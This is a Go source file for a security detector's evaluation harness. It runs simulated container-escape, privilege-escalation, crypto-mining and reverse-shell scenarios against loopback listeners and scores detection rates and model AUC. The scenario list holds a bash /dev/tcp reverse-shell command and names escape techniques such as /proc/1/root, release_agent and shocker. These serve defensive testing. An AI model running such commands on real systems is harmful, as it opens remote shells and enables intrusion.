@@ -1,0 +1,704 @@
+// Package scenarios runs vigil's detection evaluation: real attack programs
+// and real benign workloads, each under `vigil trace`, their events (and the
+// cgroup's CPU samples, read the way the agent reads them) run through the
+// detector, and a report of what was detected, how fast, and what the
+// learned model alone achieves (ROC AUC, detection at a fixed false-positive
+// rate). Attacks are safe on the machine that runs them: they fail, act
+// only on their own files and processes, or talk only to listeners the
+// harness runs on loopback.
+package scenarios
+
+import (
+	"bufio"
+	"context"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"runtime"
+	"sort"
+	"strconv"
+	"strings"
+	"sync"
+	"time"
+
+	"vigil.dev/vigil/detector"
+	"vigil.dev/vigil/event"
+)
+
+// Scenario is one workload.
+type Scenario struct {
+	Name   string
+	Attack bool
+	Class  detector.Class // the class an attack must be detected as
+	Desc   string
+	Cmd    []string // "{bin}" is the build directory, "{src}" this folder
+	Env    []string // "{port}" is the reverse-shell listener's port
+}
+
+// Attacks and Benign are the scenario sets.
+var Attacks = []Scenario{
+	{Name: "cpu-miner", Class: detector.ClassCPU, Desc: "4 threads hashing with no syscalls for 5 s", Cmd: []string{"{bin}/cpu_miner"}, Env: []string{"MINER_SECONDS=5"}},
+	{Name: "stratum-pool", Class: detector.ClassCPU, Desc: "stratum subscribe to a pool port (loopback listener)", Cmd: []string{"{bin}/stratum"}},
+	{Name: "dns-unauthorized", Class: detector.ClassNetwork, Desc: "DNS over UDP and TCP to 127.0.0.77, not the node's resolver", Cmd: []string{"{bin}/dns_exfil"}},
+	{Name: "reverse-shell", Class: detector.ClassNetwork, Desc: "connect, dup2 the socket onto stdio, exec /bin/sh", Cmd: []string{"{bin}/reverse_shell"}, Env: []string{"PORT={port}"}},
+	{Name: "bash-dev-tcp", Class: detector.ClassNetwork, Desc: "bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1", Cmd: []string{"bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/$PORT 0>&1"}, Env: []string{"PORT={port}"}},
+	{Name: "mount-escape", Class: detector.ClassFSEscape, Desc: "mount and umount2 (failing: no such target)", Cmd: []string{"{bin}/fs_escape", "mount"}},
+	{Name: "proc1-root", Class: detector.ClassFSEscape, Desc: "the host root through /proc/1/root", Cmd: []string{"{bin}/fs_escape", "proc1root"}},
+	{Name: "core-pattern", Class: detector.ClassFSEscape, Desc: "opens /proc/sys/kernel/core_pattern (read-only)", Cmd: []string{"{bin}/fs_escape", "core_pattern"}},
+	{Name: "release-agent", Class: detector.ClassFSEscape, Desc: "opens cgroup v1 release_agent files (read-only)", Cmd: []string{"{bin}/fs_escape", "release_agent"}},
+	{Name: "shocker", Class: detector.ClassFSEscape, Desc: "name_to_handle_at + open_by_handle_at on its own file", Cmd: []string{"{bin}/shocker"}},
+	{Name: "symlink-race", Class: detector.ClassFSEscape, Desc: "swaps links to /etc/shadow in its own directory", Cmd: []string{"{bin}/symlink_race"}},
+	{Name: "runtime-socket", Class: detector.ClassFSEscape, Desc: "connects to the containerd/docker socket (sends nothing)", Cmd: []string{"{bin}/runtime_socket"}},
+	{Name: "userns", Class: detector.ClassPrivesc, Desc: "unshare(CLONE_NEWUSER)", Cmd: []string{"{bin}/namespaces", "userns"}},
+	{Name: "setns", Class: detector.ClassPrivesc, Desc: "setns into its own network namespace", Cmd: []string{"{bin}/namespaces", "setns"}},
+	{Name: "setuid-root", Class: detector.ClassPrivesc, Desc: "drops to nobody, then setuid(0) (EPERM)", Cmd: []string{"{bin}/setuid_root"}},
+	{Name: "capset", Class: detector.ClassPrivesc, Desc: "capset dropping its own capabilities", Cmd: []string{"{bin}/capset"}},
+	{Name: "ptrace-sibling", Class: detector.ClassPrivesc, Desc: "PTRACE_ATTACH and PEEKDATA on its own child", Cmd: []string{"{bin}/ptrace_sibling"}},
+	{Name: "bpf", Class: detector.ClassPrivesc, Desc: "bpf(BPF_PROG_LOAD) with no attributes (fails)", Cmd: []string{"{bin}/kernel_attack", "bpf"}},
+	{Name: "module-load", Class: detector.ClassPrivesc, Desc: "finit_module/init_module of nothing (fails)", Cmd: []string{"{bin}/kernel_attack", "module"}},
+	{Name: "exploit-prep", Class: detector.ClassPrivesc, Desc: "keyctl, userfaultfd, perf_event_open", Cmd: []string{"{bin}/kernel_attack", "exploit-prep"}},
+	{Name: "wx-memory", Class: detector.ClassPrivesc, Desc: "mmap and mprotect with PROT_WRITE|PROT_EXEC", Cmd: []string{"{bin}/wx_memory"}},
+	{Name: "fileless-exec", Class: detector.ClassPrivesc, Desc: "exec of a program from a memfd", Cmd: []string{"{bin}/fileless"}},
+}
+
+var Benign = []Scenario{
+	{Name: "web-server", Desc: "busybox httpd under 150 requests", Cmd: []string{"sh", "{src}/benign/web_server.sh"}, Env: []string{"PORT={port2}"}},
+	{Name: "go-service", Desc: "multi-threaded Go HTTP service with 4 client goroutines", Cmd: []string{"{bin}/go_service"}},
+	{Name: "batch-files", Desc: "batch job: filter, sort, gzip, checksum 60 files", Cmd: []string{"sh", "{src}/benign/batch_files.sh"}},
+	{Name: "compile", Desc: "gcc compile and link of a C program", Cmd: []string{"sh", "{src}/benign/compile.sh"}},
+	{Name: "shell-pipeline", Desc: "seq | awk | sort | uniq | sed pipelines", Cmd: []string{"sh", "{src}/benign/pipeline.sh"}},
+	{Name: "kv-database", Desc: "database-like: pread/pwrite, WAL with fsync, checkpoint + rename", Cmd: []string{"{bin}/kvstore", "/tmp/vigil-kv-eval", "6000"}},
+	{Name: "idle-service", Desc: "mostly idle, periodic status and log rotation for 3 s", Cmd: []string{"sh", "{src}/benign/idle_service.sh"}},
+	{Name: "archive", Desc: "tar + gzip backup, list, restore, diff", Cmd: []string{"sh", "{src}/benign/archive.sh"}},
+	{Name: "text-search", Desc: "log analysis with awk, grep, sed, cut", Cmd: []string{"sh", "{src}/benign/text_search.sh"}},
+	{Name: "find-stat", Desc: "inventory: find, du, ls -la /etc, stat", Cmd: []string{"sh", "{src}/benign/find_stat.sh"}},
+	{Name: "compress-cpu", Desc: "CPU-heavy gzip -9 of 20 MB", Cmd: []string{"sh", "{src}/benign/compress_cpu.sh"}},
+	{Name: "sort-numbers", Desc: "shuf and sort of 600k numbers", Cmd: []string{"sh", "{src}/benign/sort_numbers.sh"}},
+	{Name: "copy-checksum", Desc: "cp -r, md5sum -c, rm -r", Cmd: []string{"sh", "{src}/benign/copy_checksum.sh"}},
+}
+
+// Options says where things are.
+type Options struct {
+	Vigil   string // the vigil binary
+	Src     string // this folder (test/scenarios)
+	Work    string // scratch directory: builds, event files
+	Runs    int    // runs per benign workload (>= 2: the first trains the model)
+	Log     io.Writer
+	Timeout time.Duration // per run
+}
+
+// Run is one execution of a scenario.
+type Run struct {
+	Scenario  string             `json:"scenario"`
+	Attack    bool               `json:"attack"`
+	Run       int                `json:"run"`
+	Events    int                `json:"events"`
+	Samples   int                `json:"samples"`
+	Seconds   float64            `json:"seconds"`
+	Exit      int                `json:"exit"`
+	Verdicts  []detector.Verdict `json:"-"`
+	Rules     []string           `json:"rules"`
+	Classes   []string           `json:"classes"`
+	Detected  bool               `json:"detected"`         // attacks: a verdict of the expected class
+	TTD       float64            `json:"ttd_ms,omitempty"` // time to detection from the first event, ms
+	FalsePos  int                `json:"false_positives"`  // benign: verdicts
+	ModelMax  float64            `json:"model_max_score"`  // max model window score
+	EventFile string             `json:"event_file"`
+}
+
+// Report is eval-report.json.
+type Report struct {
+	Time              string    `json:"time"`
+	Attacks           int       `json:"attacks"`
+	Detected          int       `json:"detected"`
+	DetectionRate     float64   `json:"detection_rate"`
+	BenignRuns        int       `json:"benign_runs"`
+	BenignWorkloads   int       `json:"benign_workloads"`
+	FalsePositiveRuns int       `json:"false_positive_runs"`
+	FalsePositives    int       `json:"false_positives"`
+	BenignSeconds     float64   `json:"benign_seconds"`
+	FPPerHour         float64   `json:"false_positives_per_hour"`
+	FPRate            float64   `json:"false_positive_rate"` // benign runs with any verdict / benign runs
+	MeanTTDms         float64   `json:"mean_ttd_ms"`
+	Model             ModelEval `json:"model"`
+	Runs              []Run     `json:"runs"`
+}
+
+// ModelEval is the learned model alone on sequences: trained on the first
+// run of each benign workload, scored on attack runs and held-out benign runs.
+type ModelEval struct {
+	TrainUnits    int     `json:"train_units"`
+	Threshold     float64 `json:"threshold"`
+	WindowAUC     float64 `json:"window_auc"` // attack windows vs held-out benign windows
+	RunAUC        float64 `json:"run_auc"`    // per run, max window score
+	WindowDetect5 float64 `json:"window_detection_at_5pct_fpr"`
+	DetectAt5FPR  float64 `json:"detection_at_5pct_fpr"` // runs
+	ThresholdTPR  float64 `json:"threshold_detection"`   // runs above the model's own threshold
+	ThresholdFPR  float64 `json:"threshold_fpr"`
+	AttackWindows int     `json:"attack_windows"`
+	BenignWindows int     `json:"benign_windows"`
+}
+
+func (o *Options) logf(format string, a ...any) {
+	if o.Log != nil {
+		fmt.Fprintf(o.Log, format+"\n", a...)
+	}
+}
+
+// Build compiles the attack programs and the compiled benign workloads.
+func Build(o *Options) error {
+	bin := filepath.Join(o.Work, "bin")
+	if err := os.MkdirAll(bin, 0o755); err != nil {
+		return err
+	}
+	srcs, err := filepath.Glob(filepath.Join(o.Src, "attacks", "*.c"))
+	if err != nil {
+		return err
+	}
+	srcs = append(srcs, filepath.Join(o.Src, "benign", "kvstore.c"))
+	var wg sync.WaitGroup
+	errs := make(chan error, len(srcs)+1)
+	sem := make(chan struct{}, runtime.GOMAXPROCS(0))
+	for _, s := range srcs {
+		wg.Add(1)
+		go func(s string) {
+			defer wg.Done()
+			sem <- struct{}{}
+			defer func() { <-sem }()
+			out := filepath.Join(bin, strings.TrimSuffix(filepath.Base(s), ".c"))
+			if b, err := exec.Command("cc", "-O2", "-o", out, s, "-lpthread").CombinedOutput(); err != nil {
+				errs <- fmt.Errorf("build %s: %v: %s", s, err, b)
+			}
+		}(s)
+	}
+	wg.Wait()
+	cmd := exec.Command("go", "build", "-o", filepath.Join(bin, "go_service"), "./benign/go_service")
+	cmd.Dir = o.Src
+	if b, err := cmd.CombinedOutput(); err != nil {
+		errs <- fmt.Errorf("build go_service: %v: %s", err, b)
+	}
+	close(errs)
+	return <-errs
+}
+
+// listeners are the loopback peers the attacks talk to.
+type listeners struct {
+	shellPort int
+	webPort   int
+	closers   []io.Closer
+}
+
+func (l *listeners) Close() {
+	for _, c := range l.closers {
+		c.Close()
+	}
+}
+
+func startListeners() (*listeners, error) {
+	l := &listeners{}
+	// reverse shell: send commands, read the answers until EOF.
+	sh, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		return nil, err
+	}
+	l.closers = append(l.closers, sh)
+	l.shellPort = sh.Addr().(*net.TCPAddr).Port
+	go serve(sh, func(c net.Conn) {
+		c.Write([]byte("id; echo vigil-scenario; exit\n"))
+		c.SetDeadline(time.Now().Add(5 * time.Second))
+		io.Copy(io.Discard, c)
+	})
+	// stratum pool
+	st, err := net.Listen("tcp", "127.0.0.1:3333")
+	if err != nil {
+		l.Close()
+		return nil, fmt.Errorf("stratum listener: %w", err)
+	}
+	l.closers = append(l.closers, st)
+	go serve(st, func(c net.Conn) {
+		c.SetDeadline(time.Now().Add(5 * time.Second))
+		bufio.NewReader(c).ReadString('\n')
+		c.Write([]byte(`{"id":1,"result":[[["mining.notify","1"]],"00",4],"error":null}` + "\n"))
+	})
+	// fake resolver on 127.0.0.77:53, UDP and TCP: answers with REFUSED.
+	udp, err := net.ListenPacket("udp", "127.0.0.77:53")
+	if err != nil {
+		l.Close()
+		return nil, fmt.Errorf("fake resolver: %w", err)
+	}
+	l.closers = append(l.closers, udp)
+	go func() {
+		buf := make([]byte, 512)
+		for {
+			n, addr, err := udp.ReadFrom(buf)
+			if err != nil {
+				return
+			}
+			if n >= 12 {
+				buf[2] |= 0x80
+				buf[3] = (buf[3] & 0xf0) | 5
+				udp.WriteTo(buf[:n], addr)
+			}
+		}
+	}()
+	tcp, err := net.Listen("tcp", "127.0.0.77:53")
+	if err != nil {
+		l.Close()
+		return nil, fmt.Errorf("fake resolver: %w", err)
+	}
+	l.closers = append(l.closers, tcp)
+	go serve(tcp, func(c net.Conn) {
+		c.SetDeadline(time.Now().Add(2 * time.Second))
+		io.Copy(io.Discard, c)
+	})
+	// a free port for the benign web server
+	ws, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		l.Close()
+		return nil, err
+	}
+	l.webPort = ws.Addr().(*net.TCPAddr).Port
+	ws.Close()
+	return l, nil
+}
+
+func serve(ln net.Listener, h func(net.Conn)) {
+	for {
+		c, err := ln.Accept()
+		if err != nil {
+			return
+		}
+		go func() {
+			defer c.Close()
+			h(c)
+		}()
+	}
+}
+
+// cgroupRoot is where vigil trace makes its cgroups (v2).
+func cgroupRoot() string {
+	for _, d := range []string{"/sys/fs/cgroup/unified", "/sys/fs/cgroup"} {
+		if _, err := os.Stat(filepath.Join(d, "cgroup.procs")); err == nil {
+			if _, err := os.Stat(filepath.Join(d, "cgroup.controllers")); err == nil {
+				return d
+			}
+		}
+	}
+	return "/sys/fs/cgroup"
+}
+
+// sampler reads a cgroup's CPU usage and thread count every 250 ms, as the
+// agent and vigil trace do for Engine.Sample.
+func sampler(ctx context.Context, dir string) []detector.Sample {
+	var out []detector.Sample
+	tick := time.NewTicker(250 * time.Millisecond)
+	defer tick.Stop()
+	first := true
+	for {
+		if !first {
+			select {
+			case <-ctx.Done():
+				return out
+			case <-tick.C:
+			}
+		}
+		first = false
+		b, err := os.ReadFile(filepath.Join(dir, "cpu.stat"))
+		if err != nil {
+			if ctx.Err() != nil {
+				return out
+			}
+			continue
+		}
+		now := time.Now()
+		var usage uint64
+		for _, line := range strings.Split(string(b), "\n") {
+			if f := strings.Fields(line); len(f) == 2 && f[0] == "usage_usec" {
+				usage, _ = strconv.ParseUint(f[1], 10, 64)
+			}
+		}
+		threads := 0
+		if t, err := os.ReadFile(filepath.Join(dir, "cgroup.threads")); err == nil {
+			threads = strings.Count(string(t), "\n")
+		}
+		out = append(out, detector.Sample{Time: now, CPUUsageNs: usage * 1000, Threads: threads})
+	}
+}
+
+func expand(s string, o *Options, l *listeners) string {
+	r := strings.NewReplacer("{bin}", filepath.Join(o.Work, "bin"), "{src}", o.Src,
+		"{port}", strconv.Itoa(l.shellPort), "{port2}", strconv.Itoa(l.webPort))
+	return r.Replace(s)
+}
+
+// runOne runs a scenario under vigil trace and records its events and
+// samples.
+func runOne(o *Options, l *listeners, sc Scenario, n int) (*Run, []detector.Sample, error) {
+	evFile := filepath.Join(o.Work, fmt.Sprintf("%s-%d.jsonl", sc.Name, n))
+	args := []string{"trace", "--json", "--summary=false", "--out", evFile, "--"}
+	for _, a := range sc.Cmd {
+		args = append(args, expand(a, o, l))
+	}
+	ctx, cancel := context.WithTimeout(context.Background(), o.Timeout)
+	defer cancel()
+	cmd := exec.CommandContext(ctx, o.Vigil, args...)
+	cmd.Env = os.Environ()
+	for _, e := range sc.Env {
+		cmd.Env = append(cmd.Env, expand(e, o, l))
+	}
+	cmd.Dir = o.Work
+	var stderr strings.Builder
+	cmd.Stderr = &stderr
+	start := time.Now()
+	if err := cmd.Start(); err != nil {
+		return nil, nil, fmt.Errorf("%s: start vigil trace: %w", sc.Name, err)
+	}
+	sctx, stop := context.WithCancel(context.Background())
+	samples := make(chan []detector.Sample, 1)
+	go func() {
+		samples <- sampler(sctx, filepath.Join(cgroupRoot(), fmt.Sprintf("vigil-trace-%d", cmd.Process.Pid)))
+	}()
+	err := cmd.Wait()
+	stop()
+	ss := <-samples
+	r := &Run{Scenario: sc.Name, Attack: sc.Attack, Run: n, Seconds: time.Since(start).Seconds(), EventFile: evFile, Samples: len(ss)}
+	var ee *exec.ExitError
+	switch {
+	case errors.As(err, &ee):
+		r.Exit = ee.ExitCode()
+	case err != nil:
+		return nil, nil, fmt.Errorf("%s: vigil trace: %w", sc.Name, err)
+	}
+	if ctx.Err() != nil {
+		return nil, nil, fmt.Errorf("%s: timed out after %s", sc.Name, o.Timeout)
+	}
+	if _, err := os.Stat(evFile); err != nil {
+		return nil, nil, fmt.Errorf("%s: vigil trace wrote no events (%s)", sc.Name, strings.TrimSpace(stderr.String()))
+	}
+	return r, ss, nil
+}
+
+// Replay runs an event file and samples through a fresh engine, in time
+// order, and returns the verdicts and the number of events.
+func Replay(cfg detector.Config, evFile string, samples []detector.Sample) ([]detector.Verdict, int, error) {
+	e, err := detector.New(cfg)
+	if err != nil {
+		return nil, 0, err
+	}
+	f, err := os.Open(evFile)
+	if err != nil {
+		return nil, 0, err
+	}
+	defer f.Close()
+	var out []detector.Verdict
+	n := 0
+	si := 0
+	var cg uint64
+	err = detector.ReplayEvents(f, evFile, func(ev *event.Event) error {
+		n++
+		cg = ev.CgroupID
+		for si < len(samples) && !samples[si].Time.After(ev.Time) {
+			s := samples[si]
+			s.CgroupID = cg
+			out = append(out, e.Sample(s)...)
+			si++
+		}
+		out = append(out, e.Observe(ev)...)
+		return nil
+	})
+	if err != nil {
+		return nil, 0, err
+	}
+	for ; si < len(samples); si++ {
+		s := samples[si]
+		s.CgroupID = cg
+		out = append(out, e.Sample(s)...)
+	}
+	out = append(out, e.Flush()...)
+	return out, n, nil
+}
+
+func firstEventTime(evFile string) time.Time {
+	f, err := os.Open(evFile)
+	if err != nil {
+		return time.Time{}
+	}
+	defer f.Close()
+	var t time.Time
+	detector.ReplayEvents(f, evFile, func(ev *event.Event) error {
+		if t.IsZero() {
+			t = ev.Time
+		}
+		return io.EOF
+	})
+	return t
+}
+
+// Evaluate builds, runs every scenario and writes the report.
+func Evaluate(o Options) (*Report, error) {
+	if o.Runs < 2 {
+		o.Runs = 2
+	}
+	if o.Timeout == 0 {
+		o.Timeout = 60 * time.Second
+	}
+	if err := Build(&o); err != nil {
+		return nil, err
+	}
+	l, err := startListeners()
+	if err != nil {
+		return nil, err
+	}
+	defer l.Close()
+	cfg := detector.Config{Shards: 1, Lists: map[string][]string{"allowed_resolvers": detector.SystemResolvers("")}}
+	rep := &Report{Time: time.Now().UTC().Format(time.RFC3339)}
+	var all []Scenario
+	for _, s := range Attacks {
+		s.Attack = true
+		all = append(all, s)
+	}
+	for _, s := range Benign {
+		for i := 0; i < o.Runs; i++ {
+			all = append(all, s)
+		}
+	}
+	runCount := map[string]int{}
+	for _, sc := range all {
+		runCount[sc.Name]++
+		r, samples, err := runOne(&o, l, sc, runCount[sc.Name])
+		if err != nil {
+			return nil, err
+		}
+		vs, n, err := Replay(cfg, r.EventFile, samples)
+		if err != nil {
+			return nil, err
+		}
+		r.Events, r.Verdicts = n, vs
+		t0 := firstEventTime(r.EventFile)
+		rules, classes := map[string]bool{}, map[string]bool{}
+		for _, v := range vs {
+			rules[v.Rule] = true
+			classes[string(v.Class)] = true
+			if sc.Attack && v.Class == sc.Class && !r.Detected {
+				r.Detected = true
+				r.TTD = float64(v.Time.Sub(t0).Microseconds()) / 1000
+				if r.TTD < 0 {
+					r.TTD = 0
+				}
+			}
+		}
+		r.Rules, r.Classes = sortedKeys(rules), sortedKeys(classes)
+		if !sc.Attack {
+			r.FalsePos = len(vs)
+		}
+		o.logf("%-18s run %d  %6d events %5.2fs exit %d  %s", sc.Name, r.Run, r.Events, r.Seconds, r.Exit, strings.Join(r.Rules, ","))
+		rep.Runs = append(rep.Runs, *r)
+	}
+	summarize(rep)
+	if err := evalModel(&o, rep); err != nil {
+		return nil, err
+	}
+	return rep, nil
+}
+
+func sortedKeys(m map[string]bool) []string {
+	out := []string{}
+	for k := range m {
+		out = append(out, k)
+	}
+	sort.Strings(out)
+	return out
+}
+
+func summarize(rep *Report) {
+	workloads := map[string]bool{}
+	ttd := 0.0
+	for _, r := range rep.Runs {
+		if r.Attack {
+			rep.Attacks++
+			if r.Detected {
+				rep.Detected++
+				ttd += r.TTD
+			}
+			continue
+		}
+		workloads[r.Scenario] = true
+		rep.BenignRuns++
+		rep.BenignSeconds += r.Seconds
+		rep.FalsePositives += r.FalsePos
+		if r.FalsePos > 0 {
+			rep.FalsePositiveRuns++
+		}
+	}
+	rep.BenignWorkloads = len(workloads)
+	if rep.Attacks > 0 {
+		rep.DetectionRate = float64(rep.Detected) / float64(rep.Attacks)
+	}
+	if rep.Detected > 0 {
+		rep.MeanTTDms = ttd / float64(rep.Detected)
+	}
+	if rep.BenignRuns > 0 {
+		rep.FPRate = float64(rep.FalsePositiveRuns) / float64(rep.BenignRuns)
+	}
+	if rep.BenignSeconds > 0 {
+		rep.FPPerHour = float64(rep.FalsePositives) / (rep.BenignSeconds / 3600)
+	}
+}
+
+// evalModel trains on the first run of each benign workload and scores the
+// attack runs and the other benign runs, per window and per run.
+func evalModel(o *Options, rep *Report) error {
+	opt := detector.ReadOptions{Format: detector.FormatEvents, Window: detector.DefaultWindowEvents}
+	var train []detector.Unit
+	for _, r := range rep.Runs {
+		if !r.Attack && r.Run == 1 {
+			u, _, err := detector.ReadUnits(r.EventFile, opt)
+			if err != nil {
+				return err
+			}
+			train = append(train, u...)
+		}
+	}
+	m, err := detector.Train(train, detector.TrainOptions{Name: "eval-benign", UnitKind: "events", WindowN: opt.Window})
+	if err != nil {
+		return err
+	}
+	me := &rep.Model
+	me.TrainUnits, me.Threshold = len(train), m.Threshold
+	var winA, winB, runA, runB []float64
+	tpr, fpr, na, nb := 0, 0, 0, 0
+	for i := range rep.Runs {
+		r := &rep.Runs[i]
+		if !r.Attack && r.Run == 1 {
+			continue
+		}
+		units, _, err := detector.ReadUnits(r.EventFile, opt)
+		if err != nil {
+			return err
+		}
+		best := 0.0
+		for j := range units {
+			s := m.Score(&units[j]).Score
+			if r.Attack {
+				winA = append(winA, s)
+			} else {
+				winB = append(winB, s)
+			}
+			if s > best {
+				best = s
+			}
+		}
+		r.ModelMax = best
+		if r.Attack {
+			runA = append(runA, best)
+			na++
+			if best > m.Threshold {
+				tpr++
+			}
+		} else {
+			runB = append(runB, best)
+			nb++
+			if best > m.Threshold {
+				fpr++
+			}
+		}
+	}
+	me.AttackWindows, me.BenignWindows = len(winA), len(winB)
+	me.WindowAUC = AUC(winA, winB)
+	me.RunAUC = AUC(runA, runB)
+	me.DetectAt5FPR = DetectionAtFPR(runA, runB, 0.05)
+	me.WindowDetect5 = DetectionAtFPR(winA, winB, 0.05)
+	if na > 0 {
+		me.ThresholdTPR = float64(tpr) / float64(na)
+	}
+	if nb > 0 {
+		me.ThresholdFPR = float64(fpr) / float64(nb)
+	}
+	return nil
+}
+
+// AUC is the probability that a random positive scores above a random
+// negative (ties count half).
+func AUC(pos, neg []float64) float64 {
+	if len(pos) == 0 || len(neg) == 0 {
+		return 0
+	}
+	wins := 0.0
+	for _, p := range pos {
+		for _, n := range neg {
+			switch {
+			case p > n:
+				wins++
+			case p == n:
+				wins += 0.5
+			}
+		}
+	}
+	return wins / float64(len(pos)*len(neg))
+}
+
+// DetectionAtFPR is the fraction of positives above the threshold that
+// lets at most fpr of the negatives through.
+func DetectionAtFPR(pos, neg []float64, fpr float64) float64 {
+	if len(pos) == 0 || len(neg) == 0 {
+		return 0
+	}
+	s := append([]float64(nil), neg...)
+	sort.Sort(sort.Reverse(sort.Float64Slice(s)))
+	allowed := int(fpr * float64(len(s))) // negatives allowed above the threshold
+	thr := s[allowed]                     // scores must exceed this
+	n := 0
+	for _, p := range pos {
+		if p > thr {
+			n++
+		}
+	}
+	return float64(n) / float64(len(pos))
+}
+
+// WriteJSON writes the report.
+func (rep *Report) WriteJSON(path string) error {
+	b, err := json.MarshalIndent(rep, "", "  ")
+	if err != nil {
+		return err
+	}
+	return os.WriteFile(path, append(b, '\n'), 0o644)
+}
+
+// Table is the readable report.
+func (rep *Report) Table() string {
+	var b strings.Builder
+	fmt.Fprintf(&b, "%-18s %-6s %-4s %-10s %9s %8s  %s\n", "scenario", "kind", "run", "result", "ttd_ms", "model", "rules")
+	for _, r := range rep.Runs {
+		kind, res := "benign", "clean"
+		if r.Attack {
+			kind, res = "attack", "MISSED"
+			if r.Detected {
+				res = "detected"
+			}
+		} else if r.FalsePos > 0 {
+			res = fmt.Sprintf("FP x%d", r.FalsePos)
+		}
+		ttd := ""
+		if r.Detected {
+			ttd = fmt.Sprintf("%.1f", r.TTD)
+		}
+		model := fmt.Sprintf("%.2f", r.ModelMax)
+		if !r.Attack && r.Run == 1 {
+			model = "train"
+		}
+		fmt.Fprintf(&b, "%-18s %-6s %-4d %-10s %9s %8s  %s\n", r.Scenario, kind, r.Run, res, ttd, model, strings.Join(r.Rules, ","))
+	}
+	fmt.Fprintf(&b, "\nattacks detected: %d/%d (%.1f%%), mean time to detection %.1f ms\n", rep.Detected, rep.Attacks, 100*rep.DetectionRate, rep.MeanTTDms)
+	fmt.Fprintf(&b, "benign: %d runs of %d workloads, %.1f s; false positives %d (%d runs, rate %.3f, %.1f per hour)\n",
+		rep.BenignRuns, rep.BenignWorkloads, rep.BenignSeconds, rep.FalsePositives, rep.FalsePositiveRuns, rep.FPRate, rep.FPPerHour)
+	m := rep.Model
+	fmt.Fprintf(&b, "model alone (trained on %d benign windows): windows: AUC %.3f, detection at 5%% FPR %.3f (%d attack, %d benign); runs (max window): AUC %.3f, detection at 5%% FPR %.3f; at its own threshold %.2f: run detection %.3f, run FPR %.3f\n",
+		m.TrainUnits, m.WindowAUC, m.WindowDetect5, m.AttackWindows, m.BenignWindows, m.RunAUC, m.DetectAt5FPR, m.Threshold, m.ThresholdTPR, m.ThresholdFPR)
+	return b.String()
+}
